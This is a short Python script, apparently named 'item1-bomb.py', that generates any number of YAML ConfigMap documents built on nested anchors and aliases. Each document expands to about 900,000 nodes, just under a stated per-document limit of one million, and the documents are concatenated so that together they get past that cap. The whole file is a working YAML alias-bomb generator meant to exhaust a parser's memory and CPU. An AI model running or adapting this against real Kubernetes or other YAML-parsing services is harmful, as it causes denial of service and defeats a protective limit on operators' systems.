#!/usr/bin/env python3
"""Writes N YAML documents, each expanding through aliases to ~900k nodes
(just under the old per-document limit of 1,000,000). Usage: item1-bomb.py N"""
import sys

def doc():
    lines = ['apiVersion: v1', 'kind: ConfigMap', 'a: &a ["x","x","x","x","x","x","x","x","x","x"]']
    prev = "a"
    for name in "bcde":
        lines.append(f"{name}: &{name} [" + ",".join([f"*{prev}"] * 10) + "]")
        prev = name
    lines.append("f: [" + ",".join(["*e"] * 7) + "]")
    return "\n".join(lines) + "\n"

n = int(sys.argv[1])
sys.stdout.write("---\n".join(doc() for _ in range(n)))
